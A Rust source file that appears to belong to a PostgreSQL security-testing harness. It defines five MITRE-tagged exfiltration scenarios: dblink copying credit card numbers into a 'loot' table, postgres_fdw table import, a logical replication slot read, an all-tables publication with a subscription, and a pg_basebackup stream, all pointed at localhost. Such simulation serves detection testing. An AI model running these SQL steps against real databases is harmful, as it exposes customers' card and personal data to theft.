//! Attacks that carry data out over connections and streams of the server's own.

use std::process::Stdio;

use crate::error::Result;
use crate::installation::run;
use crate::scenario::{PASSWORD, Scenario, Stage};

pub(super) fn all() -> Vec<Scenario> {
    vec![
        Scenario::attack(
            "dblink_exfiltration",
            "dblink opens a connection from the server and sends rows over it",
            dblink,
        )
        .technique(&["T1048"])
        .role("eve_dblink", "SUPERUSER")
        .own_shop(),
        Scenario::attack(
            "foreign_server",
            "postgres_fdw is set up to another server, tables are imported, rows pushed out",
            foreign_server,
        )
        .technique(&["T1048"])
        .role("eve_fdw", "SUPERUSER")
        .own_shop(),
        Scenario::attack(
            "replication_slot",
            "a logical replication slot is made, its changes read, and it is dropped",
            replication_slot,
        )
        .technique(&["T1048", "T1213.006"])
        .role("eve_slot", "REPLICATION IN ROLE app_writer")
        .own_shop(),
        Scenario::attack(
            "publication",
            "all tables are published and a subscription to another server is made",
            publication,
        )
        .technique(&["T1048"])
        .role("eve_publication", "SUPERUSER")
        .own_shop(),
        Scenario::attack(
            "base_backup",
            "a replication role streams a copy of the whole cluster to itself",
            base_backup,
        )
        .technique(&["T1048", "T1005"])
        .role("eve_backup", "REPLICATION"),
    ]
}

fn dblink(stage: &Stage<'_>) -> Result<()> {
    let target = format!(
        "host=127.0.0.1 port={} dbname=shop user=eve_dblink password={PASSWORD} \
         application_name=collector",
        stage.port()
    );
    let mut session = stage.connect()?;
    session.run("CREATE EXTENSION dblink")?;
    session.run(&format!("SELECT dblink_connect('out', '{target}')"))?;
    session.run_each([
        "SELECT dblink_exec('out', 'CREATE TEMP TABLE loot (data text)')",
        "SELECT dblink_exec('out', format('INSERT INTO loot VALUES (%L)', card_number)) \
         FROM sales.credit_card LIMIT 10",
        "SELECT * FROM dblink('out', 'SELECT count(*) FROM loot') AS t(n bigint)",
        "SELECT dblink_disconnect('out')",
    ])
}

fn foreign_server(stage: &Stage<'_>) -> Result<()> {
    let mut session = stage.connect()?;
    session.run("CREATE EXTENSION postgres_fdw")?;
    session.run(&format!(
        "CREATE SERVER mirror FOREIGN DATA WRAPPER postgres_fdw \
         OPTIONS (host '127.0.0.1', port '{}', dbname 'shop')",
        stage.port()
    ))?;
    session.run(&format!(
        "CREATE USER MAPPING FOR CURRENT_USER SERVER mirror \
         OPTIONS (user 'eve_fdw', password '{PASSWORD}')"
    ))?;
    session.run_each([
        "CREATE SCHEMA mirror",
        "IMPORT FOREIGN SCHEMA sales LIMIT TO (customer, credit_card) FROM SERVER mirror \
         INTO mirror",
        "SELECT count(*) FROM mirror.credit_card",
        "UPDATE mirror.customer SET credit_limit = credit_limit WHERE id IN (1, 2)",
    ])
}

fn replication_slot(stage: &Stage<'_>) -> Result<()> {
    stage.connect()?.run_each([
        "SELECT pg_create_logical_replication_slot('tap', 'test_decoding')",
        "UPDATE sales.customer SET credit_limit = credit_limit + 1 WHERE id = 3",
        "SELECT data FROM pg_logical_slot_peek_changes('tap', NULL, NULL)",
        "SELECT data FROM pg_logical_slot_get_changes('tap', NULL, NULL)",
        "SELECT pg_drop_replication_slot('tap')",
    ])
}

fn publication(stage: &Stage<'_>) -> Result<()> {
    let mut session = stage.connect()?;
    session.run("CREATE PUBLICATION everything FOR ALL TABLES")?;
    session.run(&format!(
        "CREATE SUBSCRIPTION copy_out CONNECTION 'host=127.0.0.1 port={} dbname=shop \
         user=eve_publication password={PASSWORD}' PUBLICATION everything \
         WITH (connect = false)",
        stage.port()
    ))?;
    session.run_each([
        "ALTER SUBSCRIPTION copy_out SET (slot_name = NONE)",
        "DROP SUBSCRIPTION copy_out",
    ])
}

fn base_backup(stage: &Stage<'_>) -> Result<()> {
    let mut command = stage.program("pg_basebackup")?;
    command
        .args([
            "-D",
            "-",
            "-F",
            "tar",
            "-X",
            "none",
            "-c",
            "fast",
            "--no-manifest",
        ])
        .stdout(Stdio::null());
    run(&mut command, "pg_basebackup").map(drop)
}
